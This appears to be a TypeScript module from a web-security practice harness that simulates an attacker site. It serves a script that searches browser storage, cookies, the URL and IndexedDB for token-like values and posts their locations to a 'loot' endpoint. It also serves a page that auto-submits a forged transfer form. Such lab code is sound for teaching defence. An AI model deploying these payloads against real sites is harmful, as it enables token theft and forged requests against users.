import { html, json, script } from '../server/answer.ts';
import type { Routes } from '../server/routes.ts';
import type { World } from '../world.ts';

/** What the other site does: it serves a script that steals, keeps the loot, and forges requests. */
export function thiefRoutes(world: World): Routes {
  let loot: string[] = [];
  return {
    /** Stands for any script that an XSS, or a bad dependency, brings into the page. */
    'GET /thief/script.js': () => script(stealScript(`${world.otherSiteUrl}/thief/loot`)),
    'POST /thief/loot': (request) => {
      loot = request.body.split('\n').filter((line) => line !== '');
      return { status: 204 };
    },
    /** Names of the places that gave up a token; never the tokens. */
    'GET /thief/loot': () => json(200, { places: loot }, { 'Access-Control-Allow-Origin': world.siteUrl }),

    /** A page that sends a form to the API as soon as it is shown, with whatever cookies ride along. */
    'GET /thief/forgery': () => html(200, forgeryPage(`${world.apiUrl}/jars/rides/transfers`)),
  };
}

/** Runs in the practice page with all the rights of that page. */
function stealScript(lootUrl: string): string {
  return `(async () => {
  const looksLikeToken = (text) => /eyJ/.test(String(text));
  const places = [];
  for (const area of ['localStorage', 'sessionStorage']) {
    for (const name of Object.keys(window[area])) {
      if (looksLikeToken(window[area].getItem(name))) places.push(area + ' ' + name);
    }
  }
  for (const pair of document.cookie.split('; ')) {
    if (pair.length > 20) places.push('cookie ' + pair.split('=')[0]);
  }
  if (looksLikeToken(location.href)) places.push('address bar');
  const open = indexedDB.open('practice');
  await new Promise((done) => {
    open.onerror = done;
    open.onsuccess = () => {
      const names = open.result.objectStoreNames;
      if (!names.contains('tokens')) return done();
      const read = open.result.transaction('tokens').objectStore('tokens').getAll();
      read.onerror = done;
      read.onsuccess = () => {
        if (read.result.some(looksLikeToken)) places.push('IndexedDB practice/tokens');
        done();
      };
    };
  });
  if (open.readyState === 'done' && open.result) open.result.close();
  await fetch(${JSON.stringify(lootUrl)}, { method: 'POST', mode: 'no-cors', body: places.join('\\n') });
  document.dispatchEvent(new Event('stolen'));
})();`;
}

function forgeryPage(target: string): string {
  return `<!doctype html><meta charset="utf-8"><title>A page of another site</title>
<form method="post" action="${target}"><input name="to" value="mallory"></form>
<script>document.forms[0].submit();</script>`;
}
